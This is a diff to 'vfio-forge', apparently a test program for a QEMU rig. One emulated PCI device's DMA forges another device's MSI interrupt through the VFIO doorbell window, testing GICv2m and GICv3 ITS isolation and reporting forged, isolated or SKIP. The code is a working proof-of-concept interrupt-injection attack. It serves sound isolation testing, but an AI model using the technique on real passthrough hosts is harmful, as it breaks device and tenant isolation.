@@ -5,37 +5,38 @@
  * as for vfio-msi: type1, compat or cdev).  The victim, the first device,
  * enables one MSI and shows that it works.  The attacker, the second,
  * enables its own MSI, which makes the kernel map the MSI doorbell's page
- * in the software MSI window of its IOMMU domain; then it uses edu's DMA
- * engine (registers 0x80 to 0x98: from memory into its buffer at 0x40000,
- * and back out to any IOVA) to write the victim's MSI payload to the
- * doorbell, through that window.
+ * in the software MSI window of its IOMMU domain.  Each device's MSI
+ * message (the window's IOVA and the data) is read from its real
+ * configuration space, where the kernel wrote it.  Then the attacker uses
+ * edu's DMA engine (registers 0x80 to 0x98: from memory into its buffer
+ * at 0x40000, and back out to any IOVA) to write two messages:
  *
- *  - Behind a GICv2m frame the payload is an interrupt number of the
- *    frame's range, which the attacker tries one after the other from
- *    the first: the frame cannot tell writers apart, and the victim's
- *    eventfd fires though the victim did nothing.
- *  - Behind a GICv3 ITS the payload is the victim's EventID, 0; the ITS
- *    takes the DeviceID from the write's requester, never the victim's,
- *    so at most the attacker's own interrupt of that EventID fires.  (QEMU
- *    gives a device's plain DMA requester ID 0, which maps to no device
- *    of the ITS: nothing fires at all.  So this shows no isolation: it is
- *    a regression check.)
- *  - Then, behind an ITS, what a shared DeviceID does: test-msi, the
- *    platform device the guest plays with CPU writes, has DeviceID 0,
- *    the requester QEMU gives those writes and the attacker's DMA alike.
- *    With test-msi's first vector armed, the attacker's DMA of that
- *    vector's EventID raises it: an ITS isolates DeviceIDs, not devices,
- *    and two devices that share one share their interrupts.
+ *  - control: its own.  Its own eventfd must fire: that proves its DMA
+ *    reaches the doorbell and that the doorbell takes the write for the
+ *    attacker's.  If nothing fires, the DMA carries no requester ID the
+ *    doorbell can use (upstream QEMU tags PCI DMA with none: the rig's
+ *    QEMU has qemu/patches/0001), and whatever the victim does next
+ *    proves nothing: the result is SKIP.
+ *  - forge: the victim's.  Behind a GICv2m frame, which cannot tell
+ *    writers apart, the victim's eventfd fires though the victim did
+ *    nothing.  Behind a GICv3 ITS, which takes the DeviceID from the
+ *    writer, the same bytes raise the attacker's own interrupt of that
+ *    EventID, never the victim's.
  *
- * Where the doorbell is comes from the registry (debugfs) and the window
- * from /sys/kernel/iommu_groups/N/reserved_regions: the MSI cookie maps
- * the first doorbell page at the window's start.
+ * Then, behind an ITS, test-msi, the platform device the guest plays with
+ * CPU writes (DeviceID 0, the requester ID of those writes): with its
+ * first vector armed, the attacker's DMA of that vector's EventID raises
+ * it only if the DMA carries DeviceID 0 too, as upstream QEMU's does.
  *
- * Prints "vfio-forge[MODE]: KEY: VALUE" lines.  Exit status: 0 if the
- * attack ran to the end (whatever it forged), 2 if the attach was refused,
- * 1 on anything else.
+ * Where the doorbell is comes from the registry (debugfs), for the story.
+ *
+ * Prints "vfio-forge[MODE]: KEY: VALUE" lines, the last "result: forged",
+ * "result: isolated" or "result: SKIP: ...".  Exit status: 0 if the attack
+ * ran to the end (whatever it showed), 2 if the attach was refused, 1 on
+ * anything else.
  */
 #include <errno.h>
+#include <fcntl.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -45,6 +46,7 @@
 #include <sys/mman.h>
 #include <unistd.h>
 #include <linux/iommufd.h>
+#include <linux/pci_regs.h>
 #include <linux/vfio.h>
 
 #include "lib/edu.h"
@@ -61,14 +63,6 @@ const char *prog = "vfio-forge";
 #define EDU_DMA_BUF	0x40000
 
 #define PAYLOAD_IOVA	0x100000ULL	/* below edu's 28-bit DMA mask */
-
-/*
- * The interrupt numbers (INTIDs) a GICv2m frame of QEMU's virt machine
- * raises: 64 SPIs from SPI 48 (hw/arm/virt.c: irqmap[VIRT_GIC_V2M],
- * NUM_GICV2M_SPIS).  What an attacker who knows the platform tries.
- */
-#define V2M_FIRST_INTID	80
-#define V2M_NR_INTIDS	64
 
 /*
  * One DMA of edu's engine; wait for it (edu takes 100 ms of its clock).
@@ -93,49 +87,80 @@ static int edu_dma(struct edu *e, uint32_t src, uint32_t dst, uint32_t cnt,
 	return fail("edu DMA");
 }
 
-/* The first registered doorbell: its base, and whether an ITS owns it. */
+/*
+ * The first registered doorbell: its base, and whether an ITS owns it;
+ * -1 without the registry (stock) or a doorbell.
+ */
 static int doorbell(unsigned long long *base, int *its)
 {
 	char line[256], owner[128];
 	FILE *f = fopen("/sys/kernel/debug/irq/msi_doorbells", "r");
 
 	if (!f)
-		return fail("/sys/kernel/debug/irq/msi_doorbells");
+		return -1;
 	if (!fgets(line, sizeof(line), f) ||
 	    sscanf(line, "%llx %*x %*s %127s", base, owner) != 2) {
 		fclose(f);
-		errno = ENOENT;
-		return fail("no registered doorbell");
+		return -1;
 	}
 	fclose(f);
 	*its = !!strstr(owner, "its@");
 	return 0;
 }
 
-/* The start of the software MSI window of IOMMU group @group. */
-static int msi_window(int group, unsigned long long *start)
+/*
+ * The MSI message the kernel wrote into @bdf: from its real configuration
+ * space (sysfs), not VFIO's virtualized view of it.
+ */
+static int msi_message(const char *bdf, uint64_t *addr, uint32_t *data)
 {
-	unsigned long long s, e;
-	char path[128], type[32];
-	FILE *f;
-	int ret = -1;
+	uint8_t cfg[256], pos;
+	uint16_t flags, d;
+	uint32_t lo, hi = 0;
+	char path[128];
+	int fd;
 
-	snprintf(path, sizeof(path), "/sys/kernel/iommu_groups/%d/reserved_regions",
-		 group);
-	f = fopen(path, "r");
-	if (!f)
+	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/config", bdf);
+	fd = open(path, O_RDONLY);
+	if (fd < 0)
 		return fail(path);
-	while (fscanf(f, "%llx %llx %31s", &s, &e, type) == 3) {
-		if (!strcmp(type, "msi")) {
-			*start = s;
-			ret = 0;
-		}
+	if (pread(fd, cfg, sizeof(cfg), 0) != (ssize_t)sizeof(cfg)) {
+		close(fd);
+		return fail(path);
 	}
-	fclose(f);
-	if (ret) {
+	close(fd);
+	for (pos = cfg[PCI_CAPABILITY_LIST] & ~3; pos; pos = cfg[pos + 1] & ~3)
+		if (cfg[pos] == PCI_CAP_ID_MSI)
+			break;
+	memcpy(&flags, &cfg[pos + PCI_MSI_FLAGS], 2);
+	if (!pos || !(flags & PCI_MSI_FLAGS_ENABLE)) {
 		errno = ENOENT;
-		return fail("no software MSI window");
+		return fail("no MSI enabled in the configuration space");
 	}
+	memcpy(&lo, &cfg[pos + PCI_MSI_ADDRESS_LO], 4);
+	if (flags & PCI_MSI_FLAGS_64BIT) {
+		memcpy(&hi, &cfg[pos + PCI_MSI_ADDRESS_HI], 4);
+		memcpy(&d, &cfg[pos + PCI_MSI_DATA_64], 2);
+	} else {
+		memcpy(&d, &cfg[pos + PCI_MSI_DATA_32], 2);
+	}
+	*addr = (uint64_t)hi << 32 | lo;
+	*data = d;
+	return 0;
+}
+
+/*
+ * The attacker's DMA writes @data to @addr, staged in @buf, which is
+ * mapped at PAYLOAD_IOVA, at word @slot.  0 unless the DMA failed.
+ */
+static int dma_message(struct edu *attacker, uint32_t *buf, int slot,
+		       uint32_t data, uint64_t addr)
+{
+	buf[slot] = data;
+	if (edu_dma(attacker, PAYLOAD_IOVA + 4 * slot, EDU_DMA_BUF + 4 * slot,
+		    4, 0) ||
+	    edu_dma(attacker, EDU_DMA_BUF + 4 * slot, addr, 4, EDU_DMA_TO_PCI))
+		return -1;
 	return 0;
 }
 
@@ -183,8 +208,8 @@ static int alias(struct edu *attacker, uint32_t *buf, uint64_t db_iova)
 	    edu_dma(attacker, EDU_DMA_BUF + 4, db_iova, 4, EDU_DMA_TO_PCI))
 		return 1;
 	n = fired(fd, 2000);
-	say("alias", n ? "test-msi's vector 0 fired from the attacker's DMA: its DeviceID is the attacker's DMA's" :
-	    "test-msi's vector 0 did not fire");
+	say("alias", n ? "test-msi's vector 0 fired from the attacker's DMA: the DMA carries test-msi's DeviceID, 0" :
+	    "test-msi's vector 0 did not fire: the attacker's DMA carries a DeviceID of its own");
 	set_irqs_index(device, msi, VFIO_IRQ_SET_DATA_NONE |
 		       VFIO_IRQ_SET_ACTION_TRIGGER, 0, 0, NULL);
 	close(fd);
@@ -223,12 +248,12 @@ static int map_payload(int container, void *buf, size_t len, uint64_t iova)
 
 int main(int argc, char **argv)
 {
-	unsigned long long db = 0, window = 0, db_iova;
-	int devices[MAX_EDU], container, group, its = 0, i, nr;
+	uint64_t victim_addr, attacker_addr, n, own, again;
+	uint32_t victim_data, attacker_data, *buf;
+	int devices[MAX_EDU], container, its = 0;
 	struct edu victim, attacker;
 	char bdf[MAX_EDU][EDU_BDF_LEN];
-	uint32_t *buf;
-	uint64_t n = 0;
+	unsigned long long db = 0;
 
 	if (argc > 1)
 		mode = argv[1];
@@ -255,45 +280,56 @@ int main(int argc, char **argv)
 		return 1;
 
 	/* The attacker's own MSI maps the doorbell in its domain. */
-	if (edu_open(&attacker, devices[1]))
+	if (edu_open(&attacker, devices[1]) ||
+	    msi_message(bdf[0], &victim_addr, &victim_data) ||
+	    msi_message(bdf[1], &attacker_addr, &attacker_data))
 		return 1;
-	if (bind_vfio(bdf[1], &group) || doorbell(&db, &its) ||
-	    msi_window(group, &window))
-		return 1;
-	db_iova = window + (db & 0xfff);
+	say("messages", "victim %#x to IOVA %#llx, attacker %#x to IOVA %#llx",
+	    victim_data, (unsigned long long)victim_addr, attacker_data,
+	    (unsigned long long)attacker_addr);
+	if (doorbell(&db, &its))
+		say("forge", "to a doorbell the kernel does not name (no registry)");
+	else
+		say("forge", "to doorbell %#llx (%s), through the MSI window", db,
+		    its ? "an ITS" : "not an ITS");
 
-	/* The payloads, in memory the devices can read. */
+	/* Memory the devices can read, the payloads staged there. */
 	buf = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
 		   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
 	if (buf == MAP_FAILED)
 		return fail("mmap");
-	nr = its ? 1 : V2M_NR_INTIDS;
-	for (i = 0; i < nr; i++)
-		buf[i] = its ? 0 : V2M_FIRST_INTID + i;
-	say("forge", "to doorbell %#llx at IOVA %#llx: %s", db, db_iova,
-	    its ? "the victim's EventID, 0" :
-	    "interrupt numbers of the frame, from the first");
 	if (map_payload(container, buf, 4096, PAYLOAD_IOVA))
 		return 1;
 
-	/* Memory to edu's buffer, then one payload at a time to the doorbell. */
-	if (edu_dma(&attacker, PAYLOAD_IOVA, EDU_DMA_BUF, nr * 4, 0))
+	/* The control: the attacker's own message, by its DMA. */
+	if (dma_message(&attacker, buf, 2, attacker_data, attacker_addr))
 		return 1;
-	n = 0;
-	for (i = 0; i < nr && !n; i++) {
-		if (edu_dma(&attacker, EDU_DMA_BUF + 4 * i, db_iova, 4,
-			    EDU_DMA_TO_PCI))
-			return 1;
-		n = edu_fired(&victim, 200);
+	own = edu_fired(&attacker, 2000);
+	n = edu_fired(&victim, 100);
+	say("control", own ? "the attacker's own message, written by its DMA, fired its own interrupt (eventfd count %llu)" :
+	    "the attacker's own message, written by its DMA, fired nothing: the DMA carries no requester ID the doorbell can use",
+	    (unsigned long long)own);
+	if (n) {
+		say("victim", "fired at the control (eventfd count %llu)",
+		    (unsigned long long)n);
+		return 1;
 	}
-	if (!n)
-		n = edu_fired(&victim, 2000);
-	say("forge", "%d payload(s) written by the attacker's DMA, the last %u",
-	    i, buf[i - 1]);
+
+	/* The forgery: the victim's message, the same way. */
+	if (dma_message(&attacker, buf, 3, victim_data, victim_addr))
+		return 1;
+	n = edu_fired(&victim, 2000);
 	say("victim", n ? "forged MSI arrived, eventfd count %llu, though it raised nothing" :
 	    "silent: no MSI arrived (eventfd count %llu)", (unsigned long long)n);
-	n = edu_fired(&attacker, 100);
-	say("attacker", n ? "its own interrupt of that payload fired (eventfd count %llu)" :
-	    "nothing fired for it (eventfd count %llu)", (unsigned long long)n);
-	return its ? alias(&attacker, buf, db_iova) : 0;
+	again = edu_fired(&attacker, 100);
+	say("attacker", again ? "its own interrupt of those bytes fired (eventfd count %llu)" :
+	    "nothing fired for it (eventfd count %llu)",
+	    (unsigned long long)again);
+	if (n)
+		say("result", "forged: the doorbell took the attacker's write of the victim's message for the victim's");
+	else if (own)
+		say("result", "isolated: the same bytes raised the attacker's own interrupt, never the victim's");
+	else
+		say("result", "SKIP: the attacker's DMA raised nothing, even its own MSI: isolation cannot be shown");
+	return its ? alias(&attacker, buf, victim_addr) : 0;
 }
